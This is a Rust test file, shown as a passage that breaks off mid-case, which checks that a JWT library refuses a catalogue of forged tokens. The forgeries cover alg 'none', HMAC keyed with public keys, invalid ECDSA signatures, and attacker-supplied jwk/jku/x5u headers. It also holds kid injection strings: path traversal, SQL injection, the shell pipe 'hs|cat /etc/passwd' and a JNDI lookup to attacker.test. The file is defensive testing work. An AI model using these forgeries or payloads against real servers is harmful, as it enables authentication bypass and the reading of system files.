//! The JWT attack catalogue: every known attack on a resource server, each token built by
//! hand (base64url header and payload, signed with the named key over the exact signing
//! input), so that the suite never depends on a library refusing to produce a bad token.
//!
//! Each case is a row: a name, the token (or request), and the expected answer: status,
//! `WWW-Authenticate` error code and audit reason. Every row also asserts that the handler
//! did not run, that exactly one audit event (a denial) was recorded, that the client was
//! told nothing more precise than RFC 6750 allows, and that the token was not echoed.
//!
//! The issuers under attack, all in one application:
//! - the development issuer (`ISSUER`): keys from a provider, RFC 9068 rules (`typ`
//!   `at+jwt`, required claims), two published ES256 keys (current and next);
//! - `STATIC`: configured keys (RSA, P-256 and Ed25519 from a JWKS document, P-384 from
//!   PEM) and an HMAC secret, no RFC 9068 rules;
//! - `LAX`: an operator who allowed HS256 next to RSA and EC public keys (and configured no
//!   secret): the key types must still refuse to verify HMAC;
//! - `OTHER`: a second issuer, one of whose keys has the same `kid` as one of `STATIC`'s;
//! - for the key-header attacks, also an issuer whose keys come from a JWKS URL.
//!
//! The throttle of failed authentications is off, so that rows stay independent.

mod common;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, LazyLock};

use axum::body::Body;
use axum::extract::State;
use axum::http::{Request, StatusCode};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use common::dpop;
use common::idp::Idp;
use common::keys::{TestKey, jwks};
use common::*;
use portcullis::ConfigError;
use portcullis::audit::Decision;
use portcullis::auth::{Algorithm, Dpop, DpopMode, DpopNonces, KeyError};
use portcullis::dev::DevIssuer;
use portcullis::prelude::*;
use secrecy::SecretSlice;
use serde_json::{Value, json};

portcullis::scopes! {
    "orders:read" => "Read orders",
}

/// Counts handler runs: no attack may reach the handler.
type Calls = Arc<AtomicUsize>;

/// With a quota, for the OpenAPI document's 429.
#[secure(get, path = "/orders/recent", scope = "orders:read", rate = "100/s")]
async fn recent_orders(_who: Principal) -> &'static str {
    "[]"
}

#[secure(get, path = "/orders", scope = "orders:read", rate = "unlimited")]
async fn list_orders(State(calls): State<Calls>, who: Principal) -> String {
    calls.fetch_add(1, Ordering::SeqCst);
    format!("orders of {}", who.subject().unwrap_or("?"))
}

/// Configured keys and an HMAC secret; no RFC 9068 rules.
const STATIC: &str = "https://static.test/";
/// HS256 allowed by the operator, next to RSA and EC public keys only.
const LAX: &str = "https://lax.test/";
/// A second issuer.
const OTHER: &str = "https://other.test/";
/// `STATIC`'s HMAC secret (kid `hs`): 64 bytes, so HS256, HS384 and HS512 are all usable.
const HMAC_SECRET: &[u8; 64] = b"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
const HMAC_ALGORITHMS: [&str; 3] = ["HS256", "HS384", "HS512"];

/// The order of P-256 (the `n` of FIPS 186-4 D.1.2.3).
const P256_ORDER: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
/// The order of P-384 (FIPS 186-4 D.1.2.4).
const P384_ORDER: &str = "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973";
/// The order L of the Ed25519 base point, little-endian (RFC 8032 §5.1).
const ED25519_ORDER_LE: &str = "edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010";
/// SubjectPublicKeyInfo DER up to the EC point, for P-256 (RFC 5480).
const P256_SPKI_PREFIX: &str = "3059301306072a8648ce3d020106082a8648ce3d030107034200";

/// The keys of `STATIC`, `LAX` and `OTHER`, and the attacker's; generated once.
struct Keys {
    rsa: TestKey,
    p256: TestKey,
    p384: TestKey,
    ed: TestKey,
    other_ed: TestKey,
    /// `OTHER`'s P-256 key, under the same kid (`p256`) as `STATIC`'s.
    other_p256: TestKey,
    attacker: TestKey,
}

static KEYS: LazyLock<Keys> = LazyLock::new(|| Keys {
    rsa: TestKey::rsa("rsa", aws_lc_rs::rsa::KeySize::Rsa2048),
    p256: TestKey::ec("p256", false),
    p384: TestKey::ec("p384", true),
    ed: TestKey::ed25519("ed"),
    other_ed: TestKey::ed25519("other-ed"),
    other_p256: TestKey::ec("p256", false),
    attacker: TestKey::ec("attacker", false),
});

/// The application under attack.
struct World {
    dev: DevIssuer,
    app: axum::Router,
    audit: AuditLog,
    calls: Calls,
}

/// `STATIC`'s JWKS document (its P-384 key and HMAC secret are configured apart).
fn static_jwks() -> String {
    let keys = &*KEYS;
    jwks(&[&keys.rsa, &keys.p256, &keys.ed])
}

async fn world() -> World {
    world_with(Vec::new()).await
}

/// The application, trusting `extra` issuers as well.
async fn world_with(extra: Vec<Issuer>) -> World {
    let keys = &*KEYS;
    let dev = dev_issuer();
    let audit = AuditLog::default();
    let mut builder = Security::builder();
    for issuer in extra {
        builder = builder.issuer(issuer);
    }
    let security = builder
        .issuer(dev.issuer())
        .issuer(
            Issuer::new(STATIC)
                .audience(AUDIENCE)
                .jwks_json(&static_jwks())
                .pem_key(Some("p384"), keys.p384.public_pem().as_bytes())
                .hmac_secret(Some("hs"), &SecretSlice::from(HMAC_SECRET.to_vec())),
        )
        .issuer(
            Issuer::new(LAX)
                .audience(AUDIENCE)
                .pem_key(Some("rsa"), keys.rsa.public_pem().as_bytes())
                .pem_key(Some("p256"), keys.p256.public_pem().as_bytes())
                .algorithms([Algorithm::RS256, Algorithm::ES256, Algorithm::HS256]),
        )
        .issuer(
            Issuer::new(OTHER)
                .audience(AUDIENCE)
                .jwks_json(&jwks(&[&keys.other_ed, &keys.other_p256])),
        )
        .default_rate(rate!("1000/s"))
        .realm("attacks")
        .auth_failure_limit(None)
        .audit_sink(audit.sink())
        .build()
        .await
        .unwrap();
    let calls = Calls::default();
    let app = SecureRouter::new(security)
        .mount(routes![list_orders])
        .into_router()
        .with_state(calls.clone());
    World {
        dev,
        app,
        audit,
        calls,
    }
}

// ---------------------------------------------------------------------------------------
// The table and its runner.

/// The answer a case must get.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Expect {
    status: StatusCode,
    /// The `error` of the `WWW-Authenticate` challenge, if any.
    error: Option<&'static str>,
    /// The audit reason.
    reason: &'static str,
}

/// 401 `invalid_token`, for `reason`.
const fn refused(reason: &'static str) -> Expect {
    Expect {
        status: StatusCode::UNAUTHORIZED,
        error: Some("invalid_token"),
        reason,
    }
}

/// 400 `invalid_request`, for `reason`.
const fn bad_request(reason: &'static str) -> Expect {
    Expect {
        status: StatusCode::BAD_REQUEST,
        error: Some("invalid_request"),
        reason,
    }
}

/// 401 with a bare challenge: no bearer token was offered at all.
const CHALLENGED: Expect = Expect {
    status: StatusCode::UNAUTHORIZED,
    error: None,
    reason: "missing_token",
};

/// One row of the catalogue.
struct Case {
    name: String,
    request: Request<Body>,
    /// The token sent, to check that it is not echoed.
    token: Option<String>,
    expect: Expect,
}

impl Case {
    /// `GET /orders` with `Authorization: Bearer <token>`.
    fn token(name: impl Into<String>, token: impl Into<String>, expect: Expect) -> Case {
        let token = token.into();
        Case {
            name: name.into(),
            request: get("/orders", &token),
            token: Some(token),
            expect,
        }
    }

    /// Any request.
    fn request(name: impl Into<String>, request: Request<Body>, expect: Expect) -> Case {
        Case {
            name: name.into(),
            request,
            token: None,
            expect,
        }
    }
}

/// Runs every case and reports all the mismatches at once.
async fn check(world: &World, cases: Vec<Case>) {
    assert!(!cases.is_empty());
    let count = cases.len();
    let mut failures = Vec::new();
    for case in cases {
        if let Err(failure) = run(world, case).await {
            failures.push(failure);
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {count} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// A quoted parameter of a `WWW-Authenticate` challenge.
fn challenge_param(challenge: &str, name: &str) -> Option<String> {
    challenge
        .split(&format!("{name}=\""))
        .nth(1)
        .map(|rest| rest.split('"').next().unwrap_or_default().to_owned())
}

async fn run(world: &World, case: Case) -> Result<(), String> {
    let name = case.name;
    let expect = case.expect;
    let calls_before = world.calls.load(Ordering::SeqCst);
    let events_before = world.audit.events().len();
    let reply = send(&world.app, case.request).await;
    let challenge = reply
        .headers
        .get("www-authenticate")
        .and_then(|value| value.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let events = world.audit.events();
    let new_events = &events[events_before.min(events.len())..];
    let error = challenge_param(&challenge, "error");
    let reason = new_events
        .last()
        .map_or("(no audit event)", |event| event.reason.as_str());
    let mut problems = Vec::new();
    if (reply.status, error.as_deref(), reason) != (expect.status, expect.error, expect.reason) {
        problems.push(format!(
            "expected {} {:?} {:?}, got {} {:?} {reason:?}",
            expect.status.as_u16(),
            expect.error,
            expect.reason,
            reply.status.as_u16(),
            error.as_deref(),
        ));
    }
    if world.calls.load(Ordering::SeqCst) != calls_before {
        problems.push("THE HANDLER RAN".to_owned());
    }
    match new_events {
        [event] => {
            if event.decision != Decision::Deny || event.status != expect.status.as_u16() {
                problems.push(format!("audited as {:?} {}", event.decision, event.status));
            }
        }
        other => problems.push(format!("{} audit events, not one", other.len())),
    }
    let content_type = reply.headers.get("content-type");
    if content_type.is_none_or(|value| value != "application/problem+json") {
        problems.push(format!("content-type {content_type:?}"));
    }
    if !challenge.starts_with("Bearer realm=\"attacks\"") {
        problems.push(format!("challenge {challenge:?}"));
    }
    if expect.error.is_none() && challenge != "Bearer realm=\"attacks\"" {
        problems.push(format!("a bare challenge expected, got {challenge:?}"));
    }
    if expect.error == Some("invalid_token") {
        // The client learns no more than "invalid" (or "expired", so that it refreshes).
        let description = challenge_param(&challenge, "error_description");
        let public = if expect.reason == "expired" {
            "the access token expired"
        } else {
            "the access token is invalid"
        };
        if description.as_deref() != Some(public) {
            problems.push(format!("error_description {description:?}"));
        }
    }
    if let Some(token) = case.token.filter(|token| token.len() >= 16)
        && reply.text.contains(&token)
    {
        problems.push("the token was echoed".to_owned());
    }
    if problems.is_empty() {
        Ok(())
    } else {
        Err(format!("- {name}: {}", problems.join("; ")))
    }
}

// ---------------------------------------------------------------------------------------
// Building tokens by hand.

/// `signing_input "." base64url(signature)`, the signature computed by `sign` over the
/// exact signing input.
fn jws(header: &Value, payload: &str, sign: impl FnOnce(&[u8]) -> Vec<u8>) -> String {
    let input = signing_input(header, payload);
    let signature = sign(input.as_bytes());
    format!("{input}.{}", b64(signature))
}

/// Signed with `key` (RS256, ES256, ES384 or EdDSA, by its type), whatever `header` says.
fn signed(key: &TestKey, header: &Value, claims: &Value) -> String {
    signed_text(key, header, &claims.to_string())
}

/// As [`signed`], with the payload given as text.
fn signed_text(key: &TestKey, header: &Value, payload: &str) -> String {
    jws(header, payload, |input| key.raw_signature(input))
}

/// Signed with HMAC `alg` and `secret`, whatever `header` says.
fn hmac_signed(alg: &str, secret: &[u8], header: &Value, claims: &Value) -> String {
    jws(header, &claims.to_string(), |input| {
        hmac_sign(alg, secret, input)
    })
}

/// A header with `alg` and, if given, `kid`.
fn header(alg: &str, kid: Option<&str>) -> Value {
    let mut header = json!({ "alg": alg });
    if let Some(kid) = kid {
        header["kid"] = json!(kid);
    }
    header
}

/// The header the development issuer's tokens carry, with another `alg`.
fn dev_header(dev: &DevIssuer, alg: &str) -> Value {
    json!({ "alg": alg, "typ": "at+jwt", "kid": dev.kid() })
}

/// Valid claims for `issuer`.
fn claims_for(issuer: &str) -> Value {
    let mut claims = claims("orders:read");
    claims["iss"] = json!(issuer);
    claims
}

/// A valid `STATIC` token, signed by its Ed25519 key.
fn static_token(claims: &Value) -> String {
    signed(&KEYS.ed, &header("EdDSA", Some("ed")), claims)
}

/// A development-issuer token (ES256, `typ` `at+jwt`, its current kid).
fn dev_token(dev: &DevIssuer, claims: &Value) -> String {
    dev.sign_claims(Some("at+jwt"), claims)
}

/// The three parts of a compact JWS.
fn parts(token: &str) -> [String; 3] {
    let parts: Vec<&str> = token.split('.').collect();
    assert_eq!(parts.len(), 3, "{token}");
    [parts[0].into(), parts[1].into(), parts[2].into()]
}

/// `claims` as JSON text, with `name` replaced by the raw JSON `raw` (first member).
fn with_raw_claim(claims: &Value, name: &str, raw: &str) -> String {
    let mut claims = claims.clone();
    claims.as_object_mut().unwrap().remove(name);
    claims
        .to_string()
        .replacen('{', &format!("{{\"{name}\":{raw},"), 1)
}

fn hex(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).unwrap())
        .collect()
}

fn decode(text: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(text).unwrap()
}

/// SubjectPublicKeyInfo PEM of `der`, as `openssl` writes it.
fn pem_of(der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .map(|chunk| std::str::from_utf8(chunk).unwrap())
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}

/// The DER inside a PEM.
fn der_of(pem: &str) -> Vec<u8> {
    let body: String = pem
        .lines()
        .filter(|line| !line.starts_with("-----"))
        .collect();
    STANDARD.decode(body).unwrap()
}

/// The development issuer's current public key: its JWK and its PEM, rebuilt from the
/// published JWK exactly as an attacker would.
fn dev_public_key(dev: &DevIssuer) -> (Value, String) {
    let jwk = dev.jwks()["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|key| key["kid"] == dev.kid())
        .cloned()
        .unwrap();
    let mut der = hex(P256_SPKI_PREFIX);
    der.push(0x04);
    der.extend(decode(jwk["x"].as_str().unwrap()));
    der.extend(decode(jwk["y"].as_str().unwrap()));
    (jwk, pem_of(&der))
}

/// Every form in which an attacker finds a public key, each to be tried as an HMAC secret.
fn public_key_forms(pem: &str, jwk: &Value, jwks_document: &str) -> Vec<(String, Vec<u8>)> {
    let (member, component) = match jwk.get("n") {
        Some(n) => ("n", n.as_str().unwrap()),
        None => ("x", jwk["x"].as_str().unwrap()),
    };
    vec![
        ("PEM".to_owned(), pem.as_bytes().to_vec()),
        (
            "PEM without its final newline".to_owned(),
            pem.trim_end().as_bytes().to_vec(),
        ),
        ("DER".to_owned(), der_of(pem)),
        ("JWK".to_owned(), jwk.to_string().into_bytes()),
        (
            "JWKS document".to_owned(),
            jwks_document.as_bytes().to_vec(),
        ),
        (
            format!("JWK `{member}`, base64url"),
            component.as_bytes().to_vec(),
        ),
        (format!("JWK `{member}`, decoded"), decode(component)),
    ]
}

/// A fixed-size ECDSA signature `r || s` as ASN.1 DER (the format JWS forbids).
fn ecdsa_der(fixed: &[u8]) -> Vec<u8> {
    fn integer(bytes: &[u8]) -> Vec<u8> {
        let mut bytes: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
        if bytes.first().is_none_or(|b| b & 0x80 != 0) {
            bytes.insert(0, 0);
        }
        let mut out = vec![0x02, bytes.len() as u8];
        out.extend(bytes);
        out
    }
    let (r, s) = fixed.split_at(fixed.len() / 2);
    let body = [integer(r), integer(s)].concat();
    let mut out = vec![0x30, body.len() as u8];
    out.extend(body);
    out
}

/// Signatures that must never verify on a curve of scalar size `size` and order `n`.
fn ecdsa_forgeries(size: usize, order: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let zero = vec![0u8; size];
    let mut one = vec![0u8; size];
    one[size - 1] = 1;
    vec![
        ("r = s = 0 (CVE-2022-21449)", [&zero[..], &zero].concat()),
        ("r = s = n, the curve order", [order, order].concat()),
        ("r = 0, s = n", [&zero[..], order].concat()),
        ("r = n, s = 0", [order, &zero[..]].concat()),
        ("r = s = 1", [&one[..], &one].concat()),
        ("r = s = 2^k - 1, beyond the order", vec![0xff; 2 * size]),
        ("one byte short", vec![0u8; 2 * size - 1]),
        ("a single byte", vec![0]),
    ]
}

// ---------------------------------------------------------------------------------------
// The baseline: the same hand-built tokens, without the attack, are accepted. Otherwise a
// refusal below could be the builder's fault rather than the defence's.

#[tokio::test]
async fn honest_tokens_built_the_same_way_are_accepted() {
    let world = world().await;
    let keys = &*KEYS;
    let mut tokens = vec![
        ("dev", dev_token(&world.dev, &claims("orders:read"))),
        (
            "STATIC RS256",
            signed(
                &keys.rsa,
                &header("RS256", Some("rsa")),
                &claims_for(STATIC),
            ),
        ),
        (
            "STATIC ES256",
            signed(
                &keys.p256,
                &header("ES256", Some("p256")),
                &claims_for(STATIC),
            ),
        ),
        (
            "STATIC ES384 (PEM key)",
            signed(
                &keys.p384,
                &header("ES384", Some("p384")),
                &claims_for(STATIC),
            ),
        ),
        ("STATIC EdDSA", static_token(&claims_for(STATIC))),
        (
            "STATIC EdDSA without kid",
            signed(&keys.ed, &header("EdDSA", None), &claims_for(STATIC)),
        ),
        (
            "STATIC ES256 with typ JWT",
            signed(
                &keys.p256,
                &json!({"alg": "ES256", "kid": "p256", "typ": "JWT"}),
                &claims_for(STATIC),
            ),
        ),
        (
            "LAX RS256",
            signed(&keys.rsa, &header("RS256", Some("rsa")), &claims_for(LAX)),
        ),
        (
            "LAX ES256",
            signed(&keys.p256, &header("ES256", Some("p256")), &claims_for(LAX)),
        ),
        (
            "OTHER EdDSA",
            signed(
                &keys.other_ed,
                &header("EdDSA", Some("other-ed")),
                &claims_for(OTHER),
            ),
        ),
        (
            "OTHER ES256 (kid p256)",
            signed(
                &keys.other_p256,
                &header("ES256", Some("p256")),
                &claims_for(OTHER),
            ),
        ),
    ];
    for alg in HMAC_ALGORITHMS {
        tokens.push((
            alg,
            hmac_signed(
                alg,
                HMAC_SECRET,
                &header(alg, Some("hs")),
                &claims_for(STATIC),
            ),
        ));
    }
    tokens.push((
        "HS256 without kid",
        hmac_signed(
            "HS256",
            HMAC_SECRET,
            &header("HS256", None),
            &claims_for(STATIC),
        ),
    ));
    for (name, token) in tokens {
        let before = world.calls.load(Ordering::SeqCst);
        let reply = send(&world.app, get("/orders", &token)).await;
        assert_eq!(reply.status, StatusCode::OK, "{name}: {}", reply.text);
        assert_eq!(world.calls.load(Ordering::SeqCst), before + 1, "{name}");
        assert_eq!(world.audit.last().reason, "authorized", "{name}");
    }
}

// ---------------------------------------------------------------------------------------
// The catalogue.

#[tokio::test]
async fn unsigned_tokens_and_unknown_algorithms() {
    let world = world().await;
    let mut cases = Vec::new();
    let dev_claims = claims("orders:read");
    let static_claims = claims_for(STATIC);
    for alg in ["none", "None", "NONE", "nOnE"] {
        let dev = dev_header(&world.dev, alg);
        let input = signing_input(&dev, &dev_claims.to_string());
        // An empty third part is not a JWS at all.
        cases.push(Case::token(
            format!("dev: alg {alg:?}, empty signature"),
            format!("{input}."),
            refused("malformed_token"),
        ));
        cases.push(Case::token(
            format!("dev: alg {alg:?}, with a signature"),
            format!("{input}.{}", b64("junk")),
            refused("algorithm_not_allowed"),
        ));
        let plain = header(alg, None);
        cases.push(Case::token(
            format!("STATIC: alg {alg:?} without kid, empty signature"),
            format!("{}.", signing_input(&plain, &static_claims.to_string())),
            refused("malformed_token"),
        ));
        cases.push(Case::token(
            format!("STATIC: alg {alg:?}, signed by its Ed25519 key anyway"),
            signed(&KEYS.ed, &header(alg, Some("ed")), &static_claims),
            refused("algorithm_not_allowed"),
        ));
    }
    // Names JWA does not define (they are case-sensitive), and ones not allowed here.
    for alg in [
        "",
        "es256",
        "Es256",
        "ES256 ",
        " ES256",
        "ES256\u{0}",
        "ES512",
        "RS1",
        "HS1",
        "Ed25519",
        "RSA-OAEP",
        "dir",
        "A256GCM",
    ] {
        cases.push(Case::token(
            format!("dev: alg {alg:?}"),
            jws(
                &dev_header(&world.dev, alg),
                &dev_claims.to_string(),
                |_| vec![7; 64],
            ),
            refused("algorithm_not_allowed"),
        ));
    }
    for alg in HMAC_ALGORITHMS {
        cases.push(Case::token(
            format!("dev: {alg}, not allowed for an issuer without a secret"),
            hmac_signed(alg, b"", &dev_header(&world.dev, alg), &dev_claims),
            refused("algorithm_not_allowed"),
        ));
    }
    for alg in ["HS384", "HS512", "RS384", "PS256", "ES384", "EdDSA"] {
        cases.push(Case::token(
            format!("LAX: {alg}, outside its explicit list"),
            hmac_signed("HS256", b"", &header(alg, Some("rsa")), &claims_for(LAX)),
            refused("algorithm_not_allowed"),
        ));
    }
    for (what, value) in [
        ("missing", None),
        ("null", Some(json!(null))),
        ("a number", Some(json!(256))),
        ("an array", Some(json!(["ES256"]))),
        ("an object", Some(json!({"name": "ES256"}))),
    ] {
        let mut header = dev_header(&world.dev, "ES256");
        match value {
            Some(value) => header["alg"] = value,
            None => {
                header.as_object_mut().unwrap().remove("alg");
            }
        }
        cases.push(Case::token(
            format!("dev: alg {what}"),
            jws(&header, &dev_claims.to_string(), |_| vec![7; 64]),
            refused("malformed_token"),
        ));
    }
    check(&world, cases).await;
}

#[tokio::test]
async fn hmac_signed_with_the_public_key_in_every_form() {
    let world = world().await;
    let keys = &*KEYS;
    let mut cases = Vec::new();

    // The development issuer allows no HMAC at all.
    let (dev_jwk, dev_pem) = dev_public_key(&world.dev);
    for (form, secret) in public_key_forms(&dev_pem, &dev_jwk, &world.dev.jwks_json()) {
        for alg in HMAC_ALGORITHMS {
            cases.push(Case::token(
                format!("dev (P-256): {alg} keyed with its public key as {form}"),
                hmac_signed(
                    alg,
                    &secret,
                    &dev_header(&world.dev, alg),
                    &claims("orders:read"),
                ),
                refused("algorithm_not_allowed"),
            ));
        }
    }

    // STATIC allows HMAC (it has a secret): naming a public key by its kid finds a key
    // whose type cannot verify HMAC; naming none finds the secret, which this is not.
    let jwks_document = static_jwks();
    for (label, key) in [
        ("RSA", &keys.rsa),
        ("P-256", &keys.p256),
        ("P-384", &keys.p384),
        ("Ed25519", &keys.ed),
    ] {
        for (form, secret) in public_key_forms(&key.public_pem(), &key.jwk(), &jwks_document) {
            for alg in HMAC_ALGORITHMS {
                cases.push(Case::token(
                    format!(
                        "STATIC ({label}): {alg} keyed with its public key as {form}, kid {:?}",
                        key.kid
                    ),
                    hmac_signed(
                        alg,
                        &secret,
                        &header(alg, Some(&key.kid)),
                        &claims_for(STATIC),
                    ),
                    refused("key_algorithm_mismatch"),
                ));
                cases.push(Case::token(
                    format!("STATIC ({label}): {alg} keyed with its public key as {form}, no kid"),
                    hmac_signed(alg, &secret, &header(alg, None), &claims_for(STATIC)),
                    refused("bad_signature"),
                ));
            }
        }
    }

    // LAX allows HS256 (a misconfiguration) but has no secret: its RSA and EC keys still
    // refuse to act as one, with or without a kid.
    let jwks_document = jwks(&[&keys.rsa, &keys.p256]);
    for (label, key) in [("RSA", &keys.rsa), ("P-256", &keys.p256)] {
        for (form, secret) in public_key_forms(&key.public_pem(), &key.jwk(), &jwks_document) {
            for kid in [Some(key.kid.as_str()), None] {
                cases.push(Case::token(
                    format!(
                        "LAX ({label}): HS256 keyed with its public key as {form}, kid {kid:?}"
                    ),
                    hmac_signed("HS256", &secret, &header("HS256", kid), &claims_for(LAX)),
                    refused("key_algorithm_mismatch"),
                ));
            }
            for alg in ["HS384", "HS512"] {
                cases.push(Case::token(
                    format!("LAX ({label}): {alg} keyed with its public key as {form}"),
                    hmac_signed(alg, &secret, &header(alg, Some(&key.kid)), &claims_for(LAX)),
                    refused("algorithm_not_allowed"),
                ));
            }
        }
    }
    check(&world, cases).await;
}

#[tokio::test]
async fn algorithms_are_bound_to_key_types() {
    let world = world().await;
    let keys = &*KEYS;
    let claims = claims_for(STATIC);
    let mut cases = Vec::new();
    for (alg, kid, key) in [
        ("ES384", "p256", &keys.p256),
        ("ES256", "p384", &keys.p384),
        ("ES256", "rsa", &keys.p256),
        ("RS256", "p256", &keys.rsa),
        ("PS256", "ed", &keys.rsa),
        ("EdDSA", "p256", &keys.ed),
        ("EdDSA", "rsa", &keys.ed),
        ("ES256", "hs", &keys.p256),
        ("RS256", "hs", &keys.rsa),
    ] {
        cases.push(Case::token(
            format!("STATIC: {alg} under the kid of its {kid:?} key"),
            signed(key, &header(alg, Some(kid)), &claims),
            refused("key_algorithm_mismatch"),
        ));
    }
    // Without a kid, no key of the right type: ES384 has only the P-384 key, but an RSA
    // signature relabelled ES384 does not verify with it.
    cases.push(Case::token(
        "STATIC: an RS256 signature labelled ES384, no kid",
        signed(&keys.rsa, &header("ES384", None), &claims),
        refused("bad_signature"),
    ));
    cases.push(Case::token(
        "dev: ES384 under its P-256 kid",
        jws(
            &dev_header(&world.dev, "ES384"),
            &claims_for(ISSUER).to_string(),
            |input| keys.p384.raw_signature(input),
        ),
        refused("key_algorithm_mismatch"),
    ));
    cases.push(Case::token(
        "dev: PS256 under its P-256 kid",
        jws(
            &dev_header(&world.dev, "PS256"),
            &claims_for(ISSUER).to_string(),
            |input| keys.rsa.raw_signature(input),
        ),
        refused("key_algorithm_mismatch"),
    ));
    check(&world, cases).await;
}

#[tokio::test]
async fn embedded_and_remote_key_headers_are_never_used() {
    let keys = &*KEYS;
    let attacker = &keys.attacker;
    // The attacker's key server: it must never be asked.
    let idp = Idp::start(jwks(&[attacker])).await;
    // An issuer whose keys come from a JWKS URL: an unknown kid makes it refresh, but only
    // from its own URL.
    let remote = Idp::start(jwks(&[&keys.p256])).await;
    let world = world_with(vec![
        Issuer::new(&remote.base)
            .audience(AUDIENCE)
            .jwks_url(remote.jwks_url()),
    ])
    .await;
    let url = idp.jwks_url();
    // `x5c` carries base64 DER; the attacker's public key stands in for a certificate (the
    // member is never read, so its content does not matter).
    let chain = [STANDARD.encode(der_of(&attacker.public_pem()))];
    let attacker_oct = json!({"kty": "oct", "k": b64(b"attacker-secret")});
    let embeddings = [
        ("jwk", json!({ "jwk": attacker.jwk() })),
        ("jku", json!({ "jku": url })),
        ("x5u", json!({ "x5u": url })),
        ("x5c", json!({ "x5c": chain })),
        (
            "jwk, jku, x5u and x5c together",
            json!({"jwk": attacker.jwk(), "jku": url, "x5u": url, "x5c": chain}),
        ),
    ];
    let with = |mut header: Value, extra: &Value| {
        for (name, value) in extra.as_object().unwrap() {
            header[name] = value.clone();
        }
        header
    };
    let mut cases = Vec::new();
    for (what, extra) in &embeddings {
        for (kid, expect) in [
            (Some("attacker".to_owned()), refused("unknown_kid")),
            (Some(world.dev.kid()), refused("bad_signature")),
            // The development issuer publishes two ES256 keys (current and next).
            (None, refused("ambiguous_key")),
        ] {
            let mut header = with(json!({"alg": "ES256", "typ": "at+jwt"}), extra);
            if let Some(kid) = &kid {
                header["kid"] = json!(kid);
            }
            cases.push(Case::token(
                format!("dev: {what} of the attacker's key, kid {kid:?}"),
                signed(attacker, &header, &claims("orders:read")),
                expect,
            ));
        }
        for (name, issuer) in [("STATIC", STATIC), ("remote JWKS", &remote.base)] {
            for (kid, expect) in [
                (Some("attacker"), refused("unknown_kid")),
                (Some("p256"), refused("bad_signature")),
                (None, refused("bad_signature")),
            ] {
                cases.push(Case::token(
                    format!("{name}: {what} of the attacker's key, kid {kid:?}"),
                    signed(
                        attacker,
                        &with(header("ES256", kid), extra),
                        &claims_for(issuer),
                    ),
                    expect,
                ));
            }
        }
    }
    // An embedded symmetric key, the token signed with it.
    let oct = json!({ "jwk": attacker_oct });
    for (name, issuer, kid, expect) in [
        (
            "dev",
            ISSUER,
            Some("attacker"),
            refused("algorithm_not_allowed"),
        ),
        ("STATIC", STATIC, None, refused("bad_signature")),
        ("STATIC", STATIC, Some("hs"), refused("bad_signature")),
        ("LAX", LAX, None, refused("key_algorithm_mismatch")),
    ] {
        cases.push(Case::token(
            format!("{name}: an embedded oct jwk, HS256 keyed with it, kid {kid:?}"),
            hmac_signed(
                "HS256",
                b"attacker-secret",
                &with(header("HS256", kid), &oct),
                &claims_for(issuer),
            ),
            expect,
        ));
    }
    check(&world, cases).await;
    assert_eq!(idp.jwks_fetches(), 0, "a jku or x5u was fetched");
}

#[tokio::test]
async fn kid_injection() {
    let world = world().await;
    let keys = &*KEYS;
    // Each kid with the secret the attack hopes the server will read through it.
    let injections: Vec<(&str, String, &[u8])> = vec![
        (
            "path traversal to /dev/null",
            "../../../../../../dev/null".into(),
            b"",
        ),
        ("absolute path", "/dev/null".into(), b""),
        (
            "path to a public file",
            "../../../../../../etc/hostname".into(),
            b"",
        ),
        ("file URL", "file:///dev/null".into(), b""),
        ("Windows path", "..\\..\\..\\Windows\\win.ini".into(), b""),
        ("SQL tautology", "x' OR '1'='1".into(), b"attacker-secret"),
        (
            "SQL union",
            "x' UNION SELECT 'attacker-secret' -- ".into(),
            b"attacker-secret",
        ),
        ("SQL statement", "hs'; DROP TABLE keys; --".into(), b""),
        ("NoSQL operator text", "{\"$ne\": null}".into(), b""),
        ("shell command", "hs|cat /etc/passwd".into(), b""),
        ("shell substitution", "$(cat /dev/null)".into(), b""),
        ("JNDI lookup", "${jndi:ldap://attacker.test/a}".into(), b""),
        ("NUL after a real kid", "hs\u{0}".into(), HMAC_SECRET),
        ("NUL before a real kid", "\u{0}hs".into(), HMAC_SECRET),
        ("NUL alone", "\u{0}".into(), b""),
        ("CRLF header injection", "hs\r\nX-Injected: 1".into(), b""),
        ("trailing newline", "hs\n".into(), HMAC_SECRET),
        ("a real kid in another case", "HS".into(), HMAC_SECRET),
        ("a real kid with a space", " hs".into(), HMAC_SECRET),
        ("empty", String::new(), b""),
        ("at the lookup limit (256 bytes)", "k".repeat(256), b""),
        ("past the lookup limit (257 bytes)", "k".repeat(257), b""),
        ("1 KB", "k".repeat(1024), b""),
    ];
    let mut cases = Vec::new();
    for (what, kid, secret) in &injections {
        cases.push(Case::token(
            format!("STATIC: HS256, kid {what}"),
            hmac_signed(
                "HS256",
                secret,
                &header("HS256", Some(kid)),
                &claims_for(STATIC),
            ),
            refused("unknown_kid"),
        ));
        cases.push(Case::token(
            format!("dev: ES256 by the attacker, kid {what}"),
            signed(
                &keys.attacker,
                &json!({"alg": "ES256", "typ": "at+jwt", "kid": kid}),
                &claims("orders:read"),
            ),
            refused("unknown_kid"),
        ));
    }
    // 10 KB: larger than the bearer cap (8 KiB), refused before anything is decoded.
    let huge = "k".repeat(10 * 1024);
    cases.push(Case::token(
